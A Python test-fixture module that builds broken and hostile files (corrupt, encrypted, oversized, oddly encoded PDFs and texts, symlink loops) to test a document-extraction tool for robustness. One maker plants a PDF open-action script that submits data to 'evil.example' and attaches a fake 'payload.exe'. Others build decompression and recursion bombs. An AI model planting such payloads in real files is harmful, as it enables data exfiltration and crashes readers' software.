"""Broken and hostile files, made on the spot: each maker writes one into a folder.

Built with reportlab, pypdf or raw bytes so the tests need no fixtures on disk and
a reader can see exactly what each file is. Used by tests/test_hostile_files.py.
"""

from __future__ import annotations

import io
import os
import zlib
from collections.abc import Callable
from pathlib import Path

FONT = Path(__file__).resolve().parent.parent / ".venv" / "lib" / "python3.11" / \
    "site-packages" / "matplotlib" / "mpl-data" / "fonts" / "ttf" / "DejaVuSans.ttf"

REPORT_LINES = [
    "Report to the Children and Young People Overview and Scrutiny Committee",
    "1.1 The committee is asked to note the progress of the improvement plan.",
    "1.2 Social worker turnover fell to 19% in the year to March 2024.",
    "2.1 The budget for placements is £5.2m, an overspend of £0.4m.",
]


def _reportlab_pdf(pages: list[list[str]], font: str = "Helvetica") -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4, pageCompression=1)
    if font != "Helvetica":
        from reportlab.pdfbase import pdfmetrics
        from reportlab.pdfbase.ttfonts import TTFont

        pdfmetrics.registerFont(TTFont(font, str(FONT)))
    for lines in pages:
        pdf.setFont(font, 11)
        y = 800
        for line in lines:
            pdf.drawString(60, y, line)
            y -= 18
        pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def good_pdf() -> bytes:
    return _reportlab_pdf([REPORT_LINES, ["3.1 Ofsted judged the service as requires "
                                          "improvement to be good."]])


def raw_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF from object bodies (object n is objects[n-1]), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\n"
            f"startxref\n{xref}\n%%EOF\n").encode()
    return bytes(out)


def _stream(data: bytes, compress: bool = True) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        return b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + \
            b"\nendstream"
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _one_page(content: bytes) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


# ------------------------------------------------------------------ the makers

def truncated_pdf(folder: Path) -> Path:
    data = good_pdf()
    path = folder / "truncated.pdf"
    path.write_bytes(data[: len(data) // 3])
    return path


def broken_xref_pdf(folder: Path) -> Path:
    """Every xref offset wrong and startxref pointing nowhere: readers must rebuild it."""
    data = good_pdf()
    head, _, tail = data.rpartition(b"startxref")
    xref_at = head.rfind(b"xref")
    table = head[xref_at:].replace(b" 00000 n", b" 00000 n").split(b"\n")
    garbled = [line[:2] + b"9" * 8 + line[10:] if line.endswith(b" n ") else line
               for line in table]
    path = folder / "broken-xref.pdf"
    path.write_bytes(head[:xref_at] + b"\n".join(garbled) + b"startxref\n999999\n%%EOF\n")
    return path


def _encrypted(user: str, algorithm: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf())))
    writer.encrypt(user_password=user, owner_password="owner-secret", algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def encrypted_with_password_pdf(folder: Path) -> Path:
    path = folder / "encrypted-password.pdf"
    path.write_bytes(_encrypted("secret", "RC4-128"))
    return path


def encrypted_empty_password_rc4_pdf(folder: Path) -> Path:
    path = folder / "encrypted-empty-password-rc4.pdf"
    path.write_bytes(_encrypted("", "RC4-128"))
    return path


def encrypted_empty_password_aes_pdf(folder: Path) -> Path:
    """The common real case: 'no copying' set by the owner, AES-256, no open password."""
    path = folder / "encrypted-empty-password-aes.pdf"
    path.write_bytes(_encrypted("", "AES-256"))
    return path


def image_only_pdf(folder: Path) -> Path:
    """A scan: the words are pixels, there is no text layer."""
    from PIL import Image, ImageDraw
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    image = Image.new("RGB", (600, 200), "white")
    ImageDraw.Draw(image).text((20, 80), "Social worker turnover fell to 19%", fill="black")
    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer)
    for _ in range(2):
        pdf.drawImage(ImageReader(image), 50, 500, width=500, height=166)
        pdf.showPage()
    pdf.save()
    path = folder / "scanned.pdf"
    path.write_bytes(buffer.getvalue())
    return path


def thousand_pages_pdf(folder: Path, pages: int = 1200) -> Path:
    path = folder / "thousand-pages.pdf"
    path.write_bytes(_reportlab_pdf(
        [[f"{n}.1 Minute item {n}: the committee noted the report on page {n}."]
         for n in range(1, pages + 1)]))
    return path


def huge_stream_pdf(folder: Path) -> Path:
    """One page whose content stream decodes to 12 MB of text operators (300 KB on disk)."""
    line = b"BT /F1 9 Tf 40 800 Td (The council noted the report.) Tj ET\n"
    path = folder / "huge-stream.pdf"
    path.write_bytes(raw_pdf(_one_page(line * (12_000_000 // len(line)))))
    return path


def zip_bomb_pdf(folder: Path) -> Path:
    """A content stream that inflates 1,000-fold, to 200 MB of spaces."""
    path = folder / "zip-bomb.pdf"
    path.write_bytes(raw_pdf(_one_page(b" " * 200_000_000)))
    return path


def circular_page_tree_pdf(folder: Path) -> Path:
    """The page tree lists itself as its own child."""
    path = folder / "circular-pages.pdf"
    path.write_bytes(raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _stream(b"BT /F1 11 Tf 60 800 Td (1.1 The committee noted the report.) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]))
    return path


def deep_nesting_pdf(folder: Path) -> Path:
    """An object nested 200,000 arrays deep (a recursion bomb)."""
    objects = _one_page(b"BT /F1 11 Tf 60 800 Td (1.1 Nested.) Tj ET")
    objects[2] = objects[2].replace(b">> >> >>", b">> >> /Junk " + b"[" * 200_000 +
                                    b"]" * 200_000 + b" >>")
    path = folder / "deep-nesting.pdf"
    path.write_bytes(raw_pdf(objects))
    return path


def javascript_and_attachment_pdf(folder: Path) -> Path:
    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(good_pdf())))
    writer.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('http://evil.example');"))
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really a program")
    buffer = io.BytesIO()
    writer.write(buffer)
    path = folder / "javascript-attachment.pdf"
    path.write_bytes(buffer.getvalue())
    return path


NON_LATIN_LINES = [
    "Adroddiad i'r Pwyllgor Craffu: Cyngor Sir Ddinbych, gŵyl a thŷ",  # Welsh
    "Raport dla Rady Miasta Łódź: budżet na rok 2025",  # Polish
    "Доклад совету: бюджет на 2025 год",  # Russian
    "Έκθεση προς το δημοτικό συμβούλιο",  # Greek
    "דוח למועצת העיר על התקציב",  # Hebrew (right to left)
    "تقرير إلى مجلس المدينة حول الميزانية",  # Arabic (right to left)
]


def _visual_order(line: str) -> str:
    """Right-to-left lines drawn as an RTL-aware producer draws them: in visual order."""
    rtl = any("\u0590" <= ch <= "\u06ff" for ch in line)
    return line[::-1] if rtl else line


def non_latin_pdf(folder: Path) -> Path:
    path = folder / "non-latin.pdf"
    path.write_bytes(_reportlab_pdf([[_visual_order(ln) for ln in NON_LATIN_LINES]],
                                    font="DejaVuSans"))
    return path


LIGATURE_LINES = [
    "1.1 The \ufb01nancial position is di\ufb03cult: the o\ufb03ce \ufb02oor is closed.",
    "1.2 Caf\u0065\u0301 budgets were re\u00adviewed by the sta\ufb00 panel.",
    "1.3 The total was 50\u00a0places across the\u2009county\u200b.",
]


def ligatures_pdf(folder: Path) -> Path:
    """Ligature glyphs, a combining accent, a soft hyphen, full-width digits, odd spaces."""
    path = folder / "ligatures.pdf"
    path.write_bytes(_reportlab_pdf([LIGATURE_LINES], font="DejaVuSans"))
    return path


WINANSI_LINES = ["2.1 The overspend is £0.4m – about 8% – on ‘agency’ staff; café costs fell."]


def winansi_pdf(folder: Path) -> Path:
    """Standard 14 font with WinAnsiEncoding: £, en dash, curly quotes, é as single bytes."""
    path = folder / "winansi.pdf"
    path.write_bytes(_reportlab_pdf([WINANSI_LINES]))
    return path


def invalid_utf8_txt(folder: Path) -> Path:
    """UTF-8 text (£, ’) with two stray bytes: the rest must not turn into mojibake."""
    path = folder / "invalid-utf8.txt"
    path.write_bytes("1.1 The budget is £5.2m and the council’s reserves are low.\n".encode()
                     + b"1.2 A stray byte \xff\xfe here.\n"
                     + b"1.3 Turnover fell to 19% in 2024.\n")
    return path


def utf16_txt(folder: Path) -> Path:
    """Windows Notepad's 'Unicode': UTF-16 with a byte order mark."""
    path = folder / "utf16.txt"
    path.write_bytes("1.1 The budget is £5.2m for 2025.\n1.2 Turnover fell to 19%.\n"
                     .encode("utf-16"))
    return path


def cp1252_txt(folder: Path) -> Path:
    path = folder / "windows-1252.txt"
    path.write_bytes("1.1 The overspend is £0.4m – on ‘agency’ staff.\n".encode("cp1252"))
    return path


def binary_txt(folder: Path) -> Path:
    path = folder / "binary.txt"
    path.write_bytes(bytes(range(256)) * 40)
    return path


def empty_file(folder: Path) -> Path:
    path = folder / "empty.pdf"
    path.write_bytes(b"")
    return path


def directory_named_pdf(folder: Path) -> Path:
    path = folder / "folder.pdf"
    path.mkdir()
    return path


def symlink_loop(folder: Path) -> Path:
    path = folder / "loop.pdf"
    path.symlink_to(path.name)
    return path


def directory_symlink_loop(folder: Path) -> Path:
    """A sub-folder that links back to its parent: folder discovery must not go round."""
    path = folder / "back-to-parent"
    path.symlink_to(".", target_is_directory=True)
    return path


def text_named_pdf(folder: Path) -> Path:
    path = folder / "really-text.pdf"
    path.write_text("1.1 This is a plain text file with a .pdf name.\n", encoding="utf-8")
    return path


def unsupported_extension(folder: Path) -> Path:
    path = folder / "minutes.docx"
    path.write_bytes(b"PK\x03\x04 not really a Word document")
    return path


def fifo_txt(folder: Path) -> Path:
    """A named pipe: opening it for reading would wait for ever for a writer."""
    path = folder / "pipe.txt"
    os.mkfifo(path)
    return path


def missing_file(folder: Path) -> Path:
    return folder / "no-such-report.pdf"


MAKERS: dict[str, Callable[[Path], Path]] = {
    name.removesuffix("_pdf").removesuffix("_txt"): maker
    for name, maker in list(globals().items())
    if callable(maker) and getattr(maker, "__module__", "") == __name__
    and name not in ("good_pdf", "raw_pdf") and not name.startswith("_")
    and maker.__code__.co_varnames[:1] == ("folder",)
}
